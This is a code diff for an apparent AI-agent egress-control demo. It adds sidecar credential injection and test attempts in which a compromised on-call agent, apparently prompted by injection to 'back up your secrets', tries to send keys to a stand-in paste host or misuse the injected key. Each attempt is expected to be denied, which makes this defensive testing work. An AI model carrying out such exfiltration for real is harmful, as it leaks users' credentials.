@@ -42,6 +42,24 @@ export function dnsRecords(): Array<[string, string[]]> {
 /** The rule the live update revokes, and the destination it guards. */
 export const REVOKED = { policy: 'oncall-paging', rule: 'pagerduty', host: 'events.pagerduty.test' };
 
+/**
+ * The secret the agent's PagerDuty tool needs. The control plane reads it from its own
+ * environment (the demo generates a random one per run unless the variable is already set) and
+ * streams it to Envoy, which adds the header itself: the agent never holds the key.
+ */
+export const DEMO_CREDENTIAL = {
+  name: 'pagerduty-key',
+  header: 'Authorization',
+  prefix: 'Token token=',
+  env: 'EXITGATE_DEMO_PAGERDUTY_TOKEN',
+} as const;
+
+/** The rule that injects it: plain HTTP from the agent, TLS from Envoy, one method and path. */
+export const CREDENTIAL_RULE = { policy: 'oncall-tools', rule: 'pagerduty-events', host: 'events.pagerduty.test', method: 'POST', path: '/v2/enqueue' } as const;
+
+/** What the compromised agent puts in its own Authorization header (Envoy must replace it). */
+export const AGENT_OWN_AUTH = 'Token token=stolen-guess';
+
 export function policyYaml(ports: DemoPorts, opts: { revoked?: { at: string } } = {}): string {
   const paging = opts.revoked
     ? `  # revoked live by the demo at ${opts.revoked.at}; it was:
@@ -55,6 +73,8 @@ export function policyYaml(ports: DemoPorts, opts: { revoked?: { at: string } } 
       hosts: ["events.pagerduty.test"]
       ports: [${ports.tls}]
 `;
+  const c = DEMO_CREDENTIAL;
+  const r = CREDENTIAL_RULE;
   return `# exitgate demo: egress policy of acme's on-call assistant.
 # Real deployments would say port 443; the demo's stand-in upstreams listen on ephemeral loopback
 # ports, so the rules name those. Edit this file while the demo runs: changes apply live.
@@ -81,7 +101,32 @@ kind: EgressPolicy
 metadata: { name: oncall-paging, tenant: acme }
 spec:
   agents: ["oncall-assistant"]
-${paging}`;
+${paging}---
+# The key the PagerDuty tool needs. Only the control plane reads it (from its own environment) and
+# only the sidecar receives it; the agent never holds it, so it has nothing to steal.
+apiVersion: exitgate.dev/v1
+kind: Credential
+metadata: { name: ${c.name}, tenant: acme }
+spec:
+  header: ${c.header}
+  prefix: "${c.prefix}"
+  source: { env: ${c.env} }
+---
+apiVersion: exitgate.dev/v1
+kind: EgressPolicy
+metadata: { name: ${r.policy}, tenant: acme }
+spec:
+  agents: ["oncall-assistant"]
+  allow:
+    # The agent sends plain HTTP (http://${r.host}${r.path}); Envoy checks the method and
+    # path, replaces the Authorization header with the key and opens TLS, verifying the upstream.
+    - name: ${r.rule}
+      hosts: ["${r.host}"]
+      ports: [${ports.tls}]
+      tls: originate
+      http: { methods: [${r.method}], paths: ["${r.path}"] }
+      credential: ${c.name}
+`;
 }
 
 export type Verdict = 'allow' | 'deny';
@@ -97,7 +142,9 @@ export interface AttemptSpec {
   /** As `exitgate check` takes it: https://host:port/path, http://host:port/path, host:port. */
   target: string;
   kind: AttemptKind;
+  /** Plain HTTP: the method (shown in the attempt column when set) and the agent's own headers. */
   method?: string;
+  headers?: Record<string, string>;
   body?: string;
   /** One line on what this attempt stands for in the story. */
   story: string;
@@ -115,9 +162,21 @@ export interface AttemptSpec {
   adminUntouched?: boolean;
   /** Must the conversation reach this upstream (its echo names it)? */
   upstream?: 'tls-upstream' | 'http-upstream';
+  /**
+   * Envoy must have injected this credential into the request the upstream received, and the
+   * agent's own value of the header (agentSent) must not have arrived.
+   */
+  injects?: { credential: string; header: string; prefix: string; agentSent: string };
+  /** No request may reach any upstream during this attempt. */
+  nothingReaches?: boolean;
+  /** Every request, so far in the run, that carried this credential went to this host. */
+  credentialOnlyTo?: { credential: string; host: string };
 }
 
-/** The attempts before the live update: three allowed destinations, then the attacks. */
+/** What the paging tool sends: a PagerDuty Events v2 trigger. */
+const ENQUEUE_BODY = JSON.stringify({ routing_key: 'demo', event_action: 'trigger', payload: { summary: 'disk full on db-1', source: 'oncall-assistant', severity: 'critical' } });
+
+/** The attempts before the live update: the allowed destinations, then the attacks. */
 export function initialAttempts(p: DemoPorts): AttemptSpec[] {
   return [
     {
@@ -149,6 +208,17 @@ export function initialAttempts(p: DemoPorts): AttemptSpec[] {
       upstream: 'http-upstream',
     },
     {
+      target: `http://${CREDENTIAL_RULE.host}${CREDENTIAL_RULE.path}`,
+      kind: 'http',
+      method: 'POST',
+      headers: { authorization: AGENT_OWN_AUTH, 'content-type': 'application/json' },
+      body: ENQUEUE_BODY,
+      story: "the paging tool's plain-HTTP POST, port-less, with its own guessed Authorization header",
+      expect: 'allow',
+      upstream: 'tls-upstream',
+      injects: { credential: DEMO_CREDENTIAL.name, header: DEMO_CREDENTIAL.header, prefix: DEMO_CREDENTIAL.prefix, agentSent: AGENT_OWN_AUTH },
+    },
+    {
       target: `https://paste.exfil.test:${p.tls}/upload`,
       kind: 'https',
       story: 'exfiltration to a paste site (prompt injection says "back up your secrets")',
@@ -163,6 +233,37 @@ export function initialAttempts(p: DemoPorts): AttemptSpec[] {
       story: 'the same, as a plain-HTTP POST carrying a (fake) API key',
       expect: 'deny',
       mustNotResolve: 'paste.exfil.test',
+    },
+    {
+      target: 'http://paste.exfil.test/v2/enqueue',
+      kind: 'http',
+      method: 'POST',
+      headers: { authorization: AGENT_OWN_AUTH, 'content-type': 'application/json' },
+      body: ENQUEUE_BODY,
+      story: 'the credential-bearing request, pointed at the exfiltration host to catch the injected key',
+      expect: 'deny',
+      mustNotResolve: 'paste.exfil.test',
+      nothingReaches: true,
+      credentialOnlyTo: { credential: DEMO_CREDENTIAL.name, host: CREDENTIAL_RULE.host },
+    },
+    {
+      target: `http://${CREDENTIAL_RULE.host}${CREDENTIAL_RULE.path}`,
+      kind: 'http',
+      method: 'GET',
+      headers: { authorization: AGENT_OWN_AUTH },
+      story: 'the same URL with GET, to have Envoy sign a request the rule does not allow',
+      expect: 'deny',
+      nothingReaches: true,
+    },
+    {
+      target: `http://${CREDENTIAL_RULE.host}/v2/admin`,
+      kind: 'http',
+      method: 'POST',
+      headers: { authorization: AGENT_OWN_AUTH, 'content-type': 'application/json' },
+      body: '{}',
+      story: 'a path outside the rule, to spend the injected key on another endpoint',
+      expect: 'deny',
+      nothingReaches: true,
     },
     {
       target: 'api.datadoghq.test:22',
@@ -194,7 +295,7 @@ export function afterRevokeAttempts(p: DemoPorts): AttemptSpec[] {
     {
       target: `https://events.pagerduty.test:${p.tls}/v2/enqueue`,
       kind: 'https',
-      story: `PagerDuty again, after ${REVOKED.policy}/${REVOKED.rule} was revoked in the policy file`,
+      story: `PagerDuty over CONNECT again, after ${REVOKED.policy}/${REVOKED.rule} was revoked (only ${CREDENTIAL_RULE.policy}/${CREDENTIAL_RULE.rule}, plain HTTP, remains)`,
       expect: 'deny',
     },
     {
